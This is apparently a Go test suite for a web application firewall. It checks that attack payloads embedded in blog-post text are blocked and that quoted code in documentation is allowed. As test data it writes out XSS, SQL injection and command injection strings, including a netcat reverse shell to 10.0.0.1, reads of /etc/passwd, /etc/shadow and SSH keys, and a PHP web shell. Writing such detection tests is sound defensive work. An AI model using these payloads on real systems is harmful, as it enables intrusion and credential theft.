package inspect

import (
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"
)

// prose is a paragraph of an ordinary post, around what the tests put in
// free text.
const prose = "Some notes I took while reading the docs this week, for the team to read later on."

// textRequests returns a post carrying body in a JSON article and in a
// form, the shapes a blog receives.
func textRequests(body string) map[string]*Request {
	j := `{"article":{"title":"Notes","body":"` + jsonEscape(body) + `"}}`
	return map[string]*Request{
		"json": {Method: "POST", URI: "/api/articles", Header: http.Header{"Content-Type": {"application/json"}}, Body: []byte(j)},
		"form": {Method: "POST", URI: "/posts", Header: http.Header{"Content-Type": {"application/x-www-form-urlencoded"}},
			Body: []byte("title=Notes&body=" + url.QueryEscape(body))},
	}
}

// A textPost is a body posted as an article, and whether it must be blocked.
type textPost struct {
	body  string
	block bool
}

// wantPosts checks each post with the default config (see
// [wantPostBlocked]).
func wantPosts(t *testing.T, posts []textPost) {
	t.Helper()
	e := defaultEngine(t)
	for _, p := range posts {
		wantPostBlocked(t, e, p.body, p.block)
	}
}

// defaultEngine is an engine with the default config.
func defaultEngine(t *testing.T) *Engine {
	t.Helper()
	e, err := New(Config{})
	if err != nil {
		t.Fatal(err)
	}
	return e
}

// wantPostBlocked checks that e blocks body, or lets it through, posted as
// an article in JSON and in a form.
func wantPostBlocked(t *testing.T, e *Engine, body string, block bool) {
	t.Helper()
	for shape, r := range textRequests(body) {
		if v := e.Inspect(r); (v.Action == Block) != block {
			t.Errorf("%q as a %s post: %v %v, want blocked %v", body, shape, v.Action, v.Findings, block)
		}
	}
}

// TestFreeTextAttacks checks that each rule free text relaxes still blocks
// its attacks in the prose of a post: stored XSS, a quote closed then SQL,
// a separator then a command. A rule turned off fails its case.
func TestFreeTextAttacks(t *testing.T) {
	e := defaultEngine(t)
	for _, c := range []struct{ rule, payload string }{
		{"bw-xss-002", "<script>alert(document.domain)</script>"},
		{"bw-xss-002", `<iframe srcdoc="<script>alert(1)</script>"></iframe>`},
		{"bw-xss-002", `<base href="https://evil.example/">`},
		{"bw-xss-002", `<object data="javascript:alert(1)"></object>`},
		{"bw-xss-003", `<img src=x onerror=alert(1)>`},
		{"bw-xss-003", `<svg/onload=alert(1)>`},
		{"bw-xss-004", `<a href="javascript:alert(1)">click</a>`},
		{"bw-xss-004", `[click me](javascript:alert(1))`},
		{"bw-xss-004", `<div style="width: expression(alert(1))">x</div>`},
		{"bw-xss-006", `"; alert(document.cookie)//`},
		{"bw-sqli-002", `x' union select password from users where 'a'='a`},
		{"bw-sqli-003", `x' and sleep(5) and 'a'='a`},
		{"bw-sqli-004", `x' or '1'='1`},
		{"bw-sqli-005", `x'; drop table users; select '1`},
		{"bw-sqli-007", `admin'--`},
		{"bw-cmdi-001", `hello; whoami`},
		{"bw-cmdi-002", `a;cat${IFS}/etc/passwd`},
		{"bw-cmdi-003", `x | nc -e /bin/sh 10.0.0.1 4444`},
		{"bw-cmdi-004", `x & cmd /c dir c:\`},
		{"bw-cmdi-006", "x\r\nA282 SEARCH FLAGGED\r\n"},
		{"bw-code-001", `require('child_process').exec('id')`},
		{"bw-php-001", `<?php system($_GET['c']); ?>`},
		{"bw-php-002", `base64_decode('aWQ=')`},
	} {
		for _, body := range []string{prose + " " + c.payload + " " + prose, prose + "\n\n" + c.payload + "\n\n" + prose} {
			for shape, r := range textRequests(body) {
				v := e.Inspect(r)
				if v.Action != Block || !hasRule(v, c.rule) {
					t.Errorf("%s in a %s post: %v %v, want blocked by %s", c.payload, shape, v.Action, v.Findings, c.rule)
				}
			}
		}
	}
}

// TestFreeTextCode checks that code quoted in a post — a Markdown fence, an
// indented block, a code span — is content, and what documentation writes
// in its prose is no attack; and that markup in an HTML <code> element,
// which browsers run, still is.
func TestFreeTextCode(t *testing.T) {
	wantPosts(t, []textPost{
		{prose + "\n\n```html\n<script>\n  alert(document.cookie);\n</script>\n```\n\n" + prose, false},
		{prose + "\n\n```sql\nSELECT * FROM users WHERE name = '' OR '1'='1';\nDROP TABLE users; --\n```\n\n" + prose, false},
		{prose + "\n\n~~~sh\ncurl https://example.com/x.sh | sh\nwhoami; cat /etc/hosts\n~~~\n\n" + prose, false},
		// A shell reads the bytes too (a backtick is command
		// substitution): a system file read by a command blocks, fenced
		// or not (TestCodeStillRead).
		{prose + "\n\n~~~sh\nwhoami; cat /etc/passwd\n~~~\n\n" + prose, true},
		{prose + "\n\n    const cp = require('child_process');\n    cp.exec('ls -l /tmp');\n\n" + prose, false},
		{prose + " Use `<img src=x onerror=alert(1)>` to test it. " + prose, false},
		// A database reads the bytes, not the Markdown: the first quote
		// of a value closes the app's literal, code span or not.
		{prose + " Use `<img src=x onerror=alert(1)>` to test it, or `x' or 1=1--` in the form. " + prose, true},
		{prose + " Don't use `x' or 1=1--` in the form: the apostrophe closed the literal first. " + prose, false},
		{prose + "\n\nRequest:\nContent-Type: text/html\nLocation: /login\n\n" + prose, false},
		{prose + "\nList supported time zones for a given `Locale`.\n" + prose, false},
		{prose + "\n\n| Type | Value Range | Size in bytes |\n| --- | --- | --- |\n| node | 1 | 2 |\n\n" + prose, false},
		{prose + " The child_process module and fs.readFile() are documented, as is Reflect.get and the <iframe> element. " + prose, false},
		{prose + " Escaped in Markdown, \\<script> is text. " + prose, false},
		{prose + " <code><script>alert(1)</script></code> " + prose, true},
		{prose + " <pre>x' or '1'='1</pre> " + prose, true},
		{prose + " It's <pre>x' or '1'='1</pre> " + prose, false},
		{prose + "\n\n```\n" + prose + "\n```\n\n<script>alert(1)</script>\n", true},
	})
}

// TestFreeTextNotValues checks that what is not free text is judged as a
// value: a payload with few words, a query parameter, a line break in a
// header-like place.
func TestFreeTextNotValues(t *testing.T) {
	e := defaultEngine(t)
	for _, c := range []struct {
		name string
		r    *Request
		rule string
	}{
		{"numeric json", textRequests("1 union select null, password from users")["json"], "bw-sqli-002"},
		{"keywords json", textRequests("AND (SELECT * FROM (SELECT(SLEEP(5)))nQIP)#")["json"], "bw-sqli-003"},
		{"query", &Request{Method: "GET", URI: "/search?q=" + url.QueryEscape(prose+"\r\nSet-Cookie: a=1"), Header: http.Header{}}, "bw-crlf-001"},
	} {
		v := e.Inspect(c.r)
		if v.Action != Block || !hasRule(v, c.rule) {
			t.Errorf("%s: %v %v, want blocked by %s", c.name, v.Action, v.Findings, c.rule)
		}
	}
}

// FuzzProseView checks that the free-text parse never panics, keeps every
// line and never grows a value.
func FuzzProseView(f *testing.F) {
	for _, s := range []string{"a `b` c", "```\nx\n```", "    code\n\ntext", "<code>x</code>", "`` ` ``", "\\<script>", "~~~\n", "<pre>"} {
		f.Add(s)
	}
	e, err := New(Config{})
	if err != nil {
		f.Fatal(err)
	}
	f.Fuzz(func(t *testing.T, v string) {
		s := e.scans.Get().(*scan)
		defer s.release()
		m := s.proseView(v, false)
		p := s.proseView(m, true)
		if strings.Count(m, "\n") != strings.Count(v, "\n") || len(p) > len(m) {
			t.Errorf("proseView(%q) = %q, %q", v, m, p)
		}
	})
}

// TestNamesInTitles checks the rules narrowed so that a title or search
// naming an API ("Reflect.apply()", "abs() CSS function", "property name
// __proto__ appears twice") passes: each still blocks its attacks.
func TestNamesInTitles(t *testing.T) {
	e := defaultEngine(t)
	for _, c := range []struct {
		q, rule string // rule "" passes (not blocked)
	}{
		{"Reflect.apply()", ""},
		{"String.fromCharCode()", ""},
		{"import()", ""},
		{"abs() CSS function", ""},
		{"SyntaxError: property name __proto__ appears more than once in object literal", ""},
		{"Reflect.apply(eval, null, ['alert(1)'])", "bw-xss-006"},
		{"String.fromCharCode(88,83,83)", "bw-xss-006"},
		{"import('//evil.example/x.js')", "bw-xss-006"},
		{"setTimeout(name)", "bw-xss-006"},
		{"atob()", "bw-xss-006"},
		{"ceil()", "bw-sqli-009"},
		{"date_add()", "bw-sqli-009"},
		{"__proto__.isAdmin", "bw-proto-001"},
		{"<meta name=\"viewport\"> HTML attribute value", ""},
		{"<script> HTML script element", ""},
		{"<iframe> HTML inline frame element", ""},
		{"TypeError: can''t redefine non-configurable property", ""},
		{"child_process.execSync(command[, options])", ""},
		{"__filename and module.filename in the injected module", ""},
		{"vm.runInDebugContext(string)", ""},
		{"require()", ""},
		{"<script>alert(1)</script>", "bw-xss-002"},
		{"<script>", "bw-xss-002"},
		{"<iframe src=\"javascript:alert(1)\">", "bw-xss-002"},
		{"<meta charset=\"UTF-7\">", "bw-xss-002"},
		{"<meta http-equiv=\"refresh\" content=\"0;url=//evil.example\">", "bw-xss-002"},
		{"<div id=\"134\"><xmp>", "bw-xss-002"},
		{"x;w''hoami", "bw-cmdi-002"},
		{"require('child_process')", "bw-code-001"},
		{"execSync('id')", "bw-code-001"},
		{"child_process.exec('id')", "bw-code-001"},
		{"res.end(__dirname)", "bw-code-001"},
		{"vm.runInNewContext('this.constructor')", "bw-code-001"},
		{"system()", "bw-php-002"},
		{"a __proto__[isAdmin]", "bw-proto-001"},
	} {
		v := e.Inspect(&Request{Method: "GET", URI: "/search?q=" + url.QueryEscape(c.q), Header: http.Header{}})
		if c.rule == "" && v.Action == Block || c.rule != "" && (v.Action != Block || !hasRule(v, c.rule)) {
			t.Errorf("q=%s: %v %v, want %q", c.q, v.Action, v.Findings, c.rule)
		}
	}
}

// TestReadsAsProseFraming checks what frames prose in a document and is
// left out of its share — the markup of a README (links, images, a
// centred block), a Markdown table, reference links and bare URLs — and
// that markup documents do not write is not: a value made of it is judged
// as a value. Counting the framing as symbols again fails the first cases.
func TestReadsAsProseFraming(t *testing.T) {
	for _, c := range []struct {
		v     string
		prose bool
	}{
		{`<div align="center"> <br/> <img src="https://example.com/logo.png" width="80" alt="the logo"> </div> a small library to read and write your files`, true},
		{`<a href="https://example.com/sponsor"><img src="https://example.com/sponsor.svg" width="150" alt="sponsor"></a> thanks to the sponsors who keep this going`, true},
		{"| Option | Default | What it does |\n|--------|---------|--------------|\n| `depth` | 2 | how far the walk goes |\n| `follow` | false | whether links are followed |", true},
		{"[npm-image]: https://img.shields.io/npm/v/thing.svg?style=flat-square\n[npm-url]: https://npmjs.org/package/thing\nread the badges above for the state of the build", true},
		{"see https://example.com/docs/getting-started/install?lang=en&v=2#linux for how to install it on your own machine", true},
		{`<object data="https://example.com/x.swf"></object><embed src="https://example.com/x.swf"> these are the words around it`, false},
		{`<div style="background-image:url(javascript:alert(1))"> <a href="java&#9;script:alert(1)">go</a> these six words make one sentence`, false},
		{`<script>alert(1)</script><svg/onload=alert(1)><meta http-equiv=refresh content=0> a few words here now`, false},
		{`https://example.com/a|sh;id https://example.com/b$(id) https://example.com/c` + "`id`" + ` more words to read here`, false},
	} {
		if got := readsAsProse(c.v); got != c.prose {
			t.Errorf("readsAsProse(%q) = %v, want %v", c.v, got, c.prose)
		}
	}
}

// TestFreeTextREADME checks that a README's markup around its prose is no
// attack, while an event handler or a script URL in the same markup is.
func TestFreeTextREADME(t *testing.T) {
	e := defaultEngine(t)
	readme := "<div align=\"center\">\n  <br/>\n  <img src=\"https://example.com/logo.png\" width=\"80\" style=\"float: left; width: 25%\" alt=\"logo\">\n</div>\n\n" +
		"| [index](../README.md) | [run-s](run-s.md) | [run-p](run-p.md) | Node API |\n|---|---|---|---|\n\n" + prose + "\n\n[npm-url]: https://npmjs.org/package/thing\n"
	for _, c := range []textPost{
		{readme, false},
		{strings.Replace(readme, `alt="logo"`, `alt="logo" onerror="alert(1)"`, 1), true},
		{strings.Replace(readme, `https://example.com/logo.png`, `javascript:alert(1)`, 1), true},
		{strings.Replace(readme, `<br/>`, `<script>alert(1)</script>`, 1), true},
		{strings.Replace(readme, `../README.md`, `../../../../srv/app/config.yml`, 1), true},
		{strings.Replace(readme, `../README.md`, `....//....//srv/app/config.yml`, 1), true},
		{strings.Replace(readme, `../README.md`, `..\\..\\srv\\app\\config.yml`, 1), true},
	} {
		wantPostBlocked(t, e, c.body, c.block)
	}
}

// TestFreeTextSystemPaths checks that a system path named in a sentence is
// documentation (a file API opens the whole value, which a sentence is
// not), while a value that opens with one, or climbs out of a directory
// tree, is still read as a path.
func TestFreeTextSystemPaths(t *testing.T) {
	wantPosts(t, []textPost{
		{prose + " When bash starts as a login shell it reads /etc/profile, then ~/.bash_profile; redirect the input from /dev/null. " + prose, false},
		{prose + " Keys are in /etc/ssh and the kernel shows them in /proc/self/status. " + prose, false},
		{"/etc/passwd " + prose, true},
		{"  ~/.ssh/id_rsa " + prose, true},
		{`c:\windows\win.ini ` + prose, true},
		{prose + " ../../../../etc/passwd " + prose, true},
		// A shell reads a command and its argument at a line's start or
		// after a separator.
		{prose + "\ncat /etc/passwd; " + prose, true},
		{prose + "; cat -n /etc/shadow " + prose, true},
		{prose + " | head /etc/passwd " + prose, true},
		{prose + " $(cat /proc/self/environ) " + prose, true},
		// Commands no other rule reads in free text (those a shell runs
		// from code too, cat /etc/passwd, are in reShellInCode).
		{prose + "\ncp /etc/shadow /tmp/s; " + prose, true},
		{prose + " && vi ~/.ssh/id_rsa " + prose, true},
	})
}

// TestFreeTextDocumentShapes checks shapes of real READMEs that read as
// free text: a table of contents of anchors, a table of code spans, words
// joined by a slash.
func TestFreeTextDocumentShapes(t *testing.T) {
	e := defaultEngine(t)
	for _, body := range []string{
		"* <a href=\"#install\">Installing/upgrading</a>\n* <a href=\"#usage\">Usage</a>\n  * <a href=\"#querying\">Basic querying</a>\n  * <a href=\"#operators\">Operators ($lt, $gt, $in)</a>\n* <a href=\"#sorting\">Sorting and paginating</a>",
		"| Syntax | Expands to |\n| --- | --- |\n| `npm:<script>` | `npm run <script>` |\n| `yarn:<script>` | `yarn run <script>` |",
		"|  | npm | Yarn |\n| --- | --- | --- |\n| **Global** | `npm i -g thing` | `yarn global add thing` |\n| **Local**\\* | `npm i -D thing` | `yarn add -D thing` |",
		// A README's own comments around its markup.
		"<!-- sponsors:begin -->\n<div align=\"center\"><a href=\"https://example.com\"><img src=\"https://example.com/s.png\"></a></div>\n<!-- sponsors:end -->\n\nThanks to the sponsors who keep this project going.",
		// MDN's technical summary: an article that is mostly an HTML table.
		"## Technical summary\n\n<table class=\"properties\">\n  <tbody>\n    <tr>\n      <th scope=\"row\">" +
			"<a href=\"#content_categories\">Content categories</a></th>\n      <td>Flow content</td>\n    </tr>\n  </tbody>\n</table>\n[x](#content_categories)",
	} {
		wantPostBlocked(t, e, body, false)
	}
	// A comment the app opened, closed, then a tag, is not.
	closed := "--><a href=//evil.example/>more</a> " + prose
	wantPostBlocked(t, e, closed, true)
	// The same table with a command after a separator in a cell is not.
	attack := "| Syntax | Expands to |\n| --- | --- |\n| x; cat /etc/passwd | y |\n" + prose
	wantPostBlocked(t, e, attack, true)
}

// TestReadsAsProseLinear doubles a long token of words and tags in a
// sentence: each piece of a token is read once, so the time doubles too
// (reading the rest of the token again after each tag grew fourfold).
func TestReadsAsProseLinear(t *testing.T) {
	n := 16 << 10
	if testing.Short() {
		n = 4 << 10
	}
	cost := func(size int) time.Duration {
		v := prose + " " + strings.Repeat("a<b>", size/4) + " " + prose
		best := time.Duration(1 << 62)
		for range 3 {
			start := time.Now()
			readsAsProse(v)
			best = min(best, time.Since(start))
		}
		return best
	}
	var ts []time.Duration
	for _, size := range []int{n, 2 * n, 4 * n, 8 * n} {
		ts = append(ts, cost(size))
	}
	for i := 2; i < len(ts); i++ {
		if r1, r2 := float64(ts[i-1])/float64(ts[i-2]), float64(ts[i])/float64(ts[i-1]); r1 >= 3 && r2 >= 3 {
			t.Fatalf("times %v for %d bytes doubled: x%.1f and x%.1f a doubling, want linear", ts, n, r1, r2)
		}
	}
}
